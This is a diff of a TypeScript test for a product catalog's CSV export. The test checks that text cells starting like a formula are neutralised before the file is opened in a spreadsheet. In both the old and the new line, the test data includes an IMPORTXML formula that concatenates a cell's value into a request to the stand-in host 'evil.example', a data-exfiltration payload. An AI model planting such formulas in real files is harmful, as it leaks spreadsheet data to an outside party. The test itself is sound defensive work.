@@ -343,8 +343,8 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 
 	it('neutralises text cells that start like a formula (names, SKUs, variant SKUs, descriptions); numbers stay as they are', async () => {
 		const ids: number[] = [];
-		for (const { csvDescription: _expected, ...product } of HOSTILE) {
-			ids.push(await createProduct({ ...product, custom_fields: [{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' }] }));
+		for (const { name, sku, description } of HOSTILE) {
+			ids.push(await createProduct({ name, sku, description, custom_fields: [{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' }] }));
 		}
 		const { byId, out } = await exportCsv();
 		const stored = (id: number) => (sandbox.state.catalog.products as Map<number, Json>).get(id);
